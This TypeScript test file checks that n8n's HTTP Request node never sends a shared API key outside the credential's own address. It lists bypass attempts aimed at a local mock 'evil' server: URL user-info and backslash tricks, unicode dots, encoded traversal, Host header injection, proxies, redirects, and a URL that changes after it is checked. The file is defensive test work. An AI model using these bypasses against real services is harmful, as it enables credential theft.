import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import {
	createServer as createTcpServer,
	type AddressInfo,
	type Server as TcpServer,
} from 'node:net';
import type { INode, INodeParameters } from 'n8n-workflow';
import { chain, itemsNode, node, type Execution } from './harness/index.mts';
import { openWorkshop, type Workshop } from './workshop.mts';

/** Whoever may use a credential and not read it sets everything of n8n's HTTP Request node but what the credential adds. */

const KEY = 'sk-stays-in-8e1f0c77d2';

interface Seen {
	host: string;
	address: string;
	headers: string;
}

/** A server that writes down what it gets, whether it is asked directly or as a proxy. */
class Ear {
	readonly seen: Seen[] = [];

	private readonly server: Server;

	constructor(answer: (request: IncomingMessage, response: ServerResponse) => void) {
		const note = ({ headers, url, rawHeaders }: IncomingMessage): void =>
			void this.seen.push({
				host: headers.host ?? '',
				address: url ?? '',
				headers: JSON.stringify(rawHeaders),
			});
		this.server = createServer((request, response) => {
			note(request);
			request.resume();
			answer(request, response);
		});
		this.server.on('connect', (request, socket) => {
			note(request);
			socket.end('HTTP/1.1 200 OK\r\n\r\n');
		});
	}

	async open(): Promise<void> {
		await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
	}

	get host(): string {
		return `127.0.0.1:${(this.server.address() as AddressInfo).port}`;
	}

	close(): void {
		this.server.closeAllConnections();
		this.server.close();
	}
}

const json = (
	response: ServerResponse,
	status: number,
	body: unknown,
	headers: Record<string, string> = {},
): void =>
	void response
		.writeHead(status, { 'content-type': 'application/json', ...headers })
		.end(JSON.stringify(body));

let workshop: Workshop;
let own: Ear;
let evil: Ear;
/** Takes the place of a server with a certificate that nobody vouches for. */
let tls: TcpServer;
let tlsConnections = 0;
beforeAll(async () => {
	workshop = await openWorkshop();
	evil = new Ear((_, response) => json(response, 200, { evil: true }));
	own = new Ear(({ url = '' }, response) => {
		const status = Number(/\/redirect-(\d+)/.exec(url)?.[1] ?? 0);
		if (status > 0) json(response, status, {}, { location: `http://${evil.host}/v1/models` });
		else if (url.includes('/fails')) json(response, 400, { error: { message: 'no' } });
		else json(response, 200, { own: true, next: `http://${evil.host}/v1/models` });
	});
	tls = createTcpServer((socket) => {
		tlsConnections += 1;
		socket.on('error', () => undefined);
		socket.destroy();
	});
	await Promise.all([
		own.open(),
		evil.open(),
		new Promise<void>((resolve) => tls.listen(0, '127.0.0.1', resolve)),
	]);
});
afterAll(async () => {
	own.close();
	evil.close();
	tls.close();
	await workshop.close();
});

/** What an attempt sets, in words that all versions of the node share. */
interface Attempt {
	path?: string;
	/** The whole address instead. */
	url?: string;
	method?: string;
	/** As the user types the name. */
	headers?: Record<string, string>;
	/** Headers as JSON instead of field by field. */
	asJson?: true;
	proxy?: string;
	insecure?: true;
	certificates?: true;
	redirects?: true;
	nextUrl?: string;
	/** What is said to whoever tried; absent = it is sent, to the credential's own address and nowhere else. */
	refused?: RegExp;
}

const ELSEWHERE = /is not sent anywhere else/;

function attempts(): Record<string, Attempt> {
	const [mine, theirs] = [own.host, evil.host];
	return {
		'an honest request': {},
		'an honest request with headers': {
			headers: { 'X-Own': 'mine', Authorization: 'Bearer other', 'api-key': 'other' },
		},
		'another host': { url: `http://${theirs}/v1/models`, refused: ELSEWHERE },
		'a host in the user name': { url: `http://${mine}@${theirs}/v1/models`, refused: ELSEWHERE },
		'a user name': { url: `http://me:pass@${mine}/v1/models`, refused: ELSEWHERE },
		'a backslash': { url: `http://${theirs}\\@${mine}/v1/models`, refused: ELSEWHERE },
		'unicode dots': { url: `http://${theirs.replaceAll('.', '。')}/v1/models`, refused: ELSEWHERE },
		'a folder above': { path: '/../x', refused: ELSEWHERE },
		'an encoded folder above': { path: '/..%2f..%2fx', refused: ELSEWHERE },
		'an address in an address': { url: `http://${theirs}/http://${mine}/v1`, refused: ELSEWHERE },
		'https instead of http': { url: `https://${mine}/v1/models`, refused: ELSEWHERE },
		'a proxy': { proxy: `http://${theirs}`, refused: /with a proxy of the request/ },
		'no look at certificates': { insecure: true, refused: /with unchecked certificates/ },
		'a Host header': { headers: { Host: theirs }, refused: /with the header "host"/i },
		'a Host header in odd case': {
			headers: { hOsT: theirs },
			asJson: true,
			refused: /with the header "host"/i,
		},
		'X-Forwarded-Host': {
			headers: { 'X-Forwarded-Host': theirs },
			asJson: true,
			refused: /with the header "x-forwarded-host"/i,
		},
		'an echo': { method: '={{ "TRACE" }}', refused: /with the method TRACE/ },
		'a redirect': { path: '/redirect-302', redirects: true },
		'a redirect of a POST': { path: '/redirect-307', redirects: true, method: 'POST' },
		'an error answer': { path: '/fails' },
	};
}

/** An address that is another one once it was asked for its text some times, as it is when it is checked. Newer n8n refuses it itself: it copies what an expression gives. */
const changing = (times: number): string =>
	`={{ $response.body.next ? (() => { let asked = 0; return { toString: () => (asked++ < ${times} ? "http://${own.host}/v1/models" : "http://${evil.host}/v1/models") }; })() : undefined }}`;

const OF_NEW_VERSIONS = (): Record<string, Attempt> => ({
	...Object.fromEntries(
		[2, 3, 4, 5, 6].map((times) => [
			`a next page that changes after ${times}`,
			{ nextUrl: changing(times), refused: /"error"/ },
		]),
	),
	'certificates of the request': {
		certificates: true,
		refused: /with SSL certificates of the request/,
	},
	'the next page elsewhere': { nextUrl: '={{ $response.body.next }}', refused: ELSEWHERE },
});

const addressOf = ({ url, path = '/models' }: Attempt, base: string): string =>
	url ?? `${base}${path}`;

function versionTwo(attempt: Attempt, base: string): INodeParameters {
	const {
		headers = {},
		asJson = false,
		proxy,
		insecure = false,
		redirects,
		method = 'GET',
	} = attempt;
	return {
		authentication: 'predefinedCredentialType',
		nodeCredentialType: 'gptImageApi',
		requestMethod: method,
		url: addressOf(attempt, base),
		allowUnauthorizedCerts: insecure,
		jsonParameters: asJson,
		options: {
			...(proxy !== undefined && { proxy }),
			...(redirects && { followRedirect: true, followAllRedirects: true }),
		},
		...(asJson
			? { headerParametersJson: JSON.stringify(headers) }
			: {
					headerParametersUi: {
						parameter: Object.entries(headers).map(([name, value]) => ({ name, value })),
					},
				}),
	};
}

function versionThree(attempt: Attempt, base: string): INodeParameters {
	const {
		headers,
		asJson = false,
		proxy,
		insecure,
		certificates,
		redirects,
		nextUrl,
		method = 'GET',
	} = attempt;
	const pages = {
		paginationMode: 'responseContainsNextURL',
		nextURL: nextUrl ?? '',
		paginationCompleteWhen: 'other',
		completeExpression: '={{ false }}',
		limitPagesFetched: true,
		maxRequests: 2,
	};
	return {
		authentication: 'predefinedCredentialType',
		nodeCredentialType: 'gptImageApi',
		method,
		url: addressOf(attempt, base),
		...(certificates && { provideSslCertificates: true }),
		...(headers && {
			sendHeaders: true,
			specifyHeaders: asJson ? 'json' : 'keypair',
			jsonHeaders: JSON.stringify(headers),
			headerParameters: {
				parameters: Object.entries(headers).map(([name, value]) => ({ name, value })),
			},
		}),
		options: {
			...(asJson && { lowercaseHeaders: false }),
			...(proxy !== undefined && { proxy }),
			...(insecure && { allowUnauthorizedCerts: true }),
			...(redirects && {
				redirect: { redirect: { followRedirects: true, maxRedirects: 9 } },
				sendCredentialsOnCrossOriginRedirect: true,
			}),
			...(nextUrl !== undefined && { pagination: { pagination: pages } }),
		},
	};
}

interface Provider {
	credential: Record<string, string>;
	/** The header of a request that carries the key. */
	signature: string;
}

const providers = (): Record<string, Provider> => ({
	openai: {
		credential: { provider: 'openai', apiKey: KEY, baseUrl: `http://${own.host}/v1` },
		signature: `"Bearer ${KEY}"`,
	},
	azure: {
		credential: { provider: 'azure', apiKey: KEY, baseUrl: `http://${own.host}/v1` },
		signature: `"api-key","${KEY}"`,
	},
	fal: {
		credential: { provider: 'fal', apiKey: KEY, baseUrl: `http://${own.host}/v1` },
		signature: `"Key ${KEY}"`,
	},
});

/** One workflow of all attempts, each after the other whatever came of it. */
async function runAll(
	typeVersion: number,
	tried: Record<string, Attempt>,
	credential: Record<string, string>,
): Promise<Execution> {
	const { n8n } = workshop;
	const [id, sslId] = [
		await n8n.createCredential(credential),
		await n8n.createCredential({ ca: 'x' }, 'httpSslAuth'),
	];
	const nodes = Object.entries(tried).map(([name, attempt]): INode =>
		node(
			name,
			'n8n-nodes-base.httpRequest',
			(typeVersion < 3 ? versionTwo : versionThree)(attempt, credential['baseUrl'] ?? ''),
			{
				typeVersion,
				onError: 'continueRegularOutput',
				credentials: {
					gptImageApi: { id, name: 'shared' },
					...(attempt.certificates && { httpSslAuth: { id: sslId, name: 'ssl' } }),
				},
			},
		),
	);
	return await n8n.waitForExecution(
		await n8n.runWorkflow(await n8n.createWorkflow(chain(itemsNode('Items', [{}]), ...nodes))),
	);
}

const saidOf = (execution: Execution, name: string): string => {
	const [task] = execution.data.resultData.runData[name] ?? [];
	return JSON.stringify([task?.data?.['main'], task?.error ?? null]).replaceAll('\\"', '"');
};

/** Nothing of the key in anything that whoever ran it can read. */
const shownOf = (execution: Execution): string => {
	const seen = new WeakSet<object>();
	return JSON.stringify(execution, (_, value: unknown) => {
		if (typeof value !== 'object' || value === null) return value;
		if (seen.has(value)) return '[again]';
		seen.add(value);
		return value;
	});
};

beforeEach(() => {
	own.seen.length = 0;
	evil.seen.length = 0;
});

describe.each([2, 3, 4, 4.2, 4.4, 4.5])("n8n's HTTP Request node, version %s", (version) => {
	const ids = version === 4.5 ? ['openai', 'azure', 'fal'] : ['openai'];

	it.each(ids)(
		'does not get the key of %s to any other place',
		async (id) => {
			const { credential, signature } = providers()[id]!;
			const tried = { ...attempts(), ...(version >= 3 && OF_NEW_VERSIONS()) };
			const execution = await runAll(version, tried, credential);

			expect(Object.keys(execution.data.resultData.runData)).toEqual(
				expect.arrayContaining(Object.keys(tried)),
			);
			expect(JSON.stringify(evil.seen)).not.toContain(KEY);
			expect(evil.seen).toEqual([]);
			expect([...new Set(own.seen.map(({ host }) => host))]).toEqual([own.host]);
			expect(own.seen.every(({ address }) => address.startsWith('/v1/'))).toBe(true);
			for (const [name, { refused }] of Object.entries(tried)) {
				const said = saidOf(execution, name);
				if (refused) expect(`${name}: ${said}`).toMatch(refused);
				else expect(`${name}: ${said}`).not.toMatch(/not sent/);
			}
			// The honest ones, the error answer, the redirects that are not followed, the first page.
			const sent = Object.values(tried).filter(
				({ refused, nextUrl }) => refused === undefined || nextUrl !== undefined,
			);
			expect(own.seen).toHaveLength(sent.length);
			expect(own.seen.filter(({ headers }) => headers.includes(signature))).toHaveLength(
				sent.length,
			);
			expect(shownOf(execution)).not.toContain(KEY);
		},
		120_000,
	);
});

it('a server with a certificate that nobody vouches for is not even called', async () => {
	const baseUrl = `https://127.0.0.1:${(tls.address() as AddressInfo).port}/v1`;
	const execution = await runAll(
		4.5,
		{ insecure: { insecure: true }, own: { certificates: true } },
		{ provider: 'openai', apiKey: KEY, baseUrl },
	);

	expect(tlsConnections).toBe(0);
	expect(saidOf(execution, 'insecure')).toMatch(/with unchecked certificates/);
	expect(saidOf(execution, 'own')).toMatch(/with SSL certificates of the request/);
});
